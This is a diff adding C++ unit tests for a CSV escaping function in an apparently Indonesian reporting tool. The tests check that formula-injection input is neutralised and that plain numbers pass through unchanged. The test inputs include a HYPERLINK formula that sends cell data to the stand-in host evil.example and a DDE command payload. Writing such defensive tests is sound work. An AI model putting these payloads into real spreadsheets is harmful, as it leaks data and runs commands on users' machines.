@@ -303,5 +303,36 @@ TEST(SignatoryTest, ReadsKnownKeysAndNamesAMisspeltOne) {
   EXPECT_EQ(IndonesianDate(absl::CivilDay(2026, 8, 17)), "17 Agustus 2026");
 }
 
+TEST(CsvFieldTest, TextThatASpreadsheetWouldRunIsNeutralisedAndNumbersStayNumbers) {
+  // OWASP CSV injection: = + - @ tab CR at the start.
+  EXPECT_EQ(CsvField("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Klik\"\")\"");
+  EXPECT_EQ(CsvField("+62 811"), "\"'+62 811\"");
+  EXPECT_EQ(CsvField("-2+3+cmd|' /C calc'!A0"), "\"'-2+3+cmd|' /C calc'!A0\"");
+  EXPECT_EQ(CsvField("@SUM(A1:A2)"), "\"'@SUM(A1:A2)\"");
+  EXPECT_EQ(CsvField("\t=1+1"), "\"'\t=1+1\"");
+  EXPECT_EQ(CsvField("\r=1+1"), "\"'\r=1+1\"");
+  // Numbers, including negative changes, are not touched; nor is ordinary text.
+  EXPECT_EQ(CsvField("-1250"), "-1250");
+  EXPECT_EQ(CsvField("-3.85"), "-3.85");
+  EXPECT_EQ(CsvField("+12"), "+12");
+  EXPECT_EQ(CsvField("13100"), "13100");
+  EXPECT_EQ(CsvField("Toko Ani"), "Toko Ani");
+  EXPECT_EQ(CsvField("a=b"), "a=b");
+  EXPECT_EQ(CsvField(""), "");
+  // Not numbers after all.
+  EXPECT_EQ(CsvField("-"), "\"'-\"");
+  EXPECT_EQ(CsvField("-1-1"), "\"'-1-1\"");
+  EXPECT_EQ(CsvField("-1."), "\"'-1.\"");
+}
+
+TEST(CsvFieldTest, AHostileCellInAReportTableComesOutAsText) {
+  report::Table table;
+  table.columns = {{"sertifikat", "Sertifikat"}, {"selisih", "Selisih"}};
+  table.rows = {{"=HYPERLINK(\"http://evil.example/\",\"Klik\")", "-2"}};
+  const std::string csv = TableCsv(table);
+  EXPECT_EQ(csv, "sertifikat,selisih\n\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"Klik\"\")\",-2\n");
+}
+
 }  // namespace
 }  // namespace pantau::report
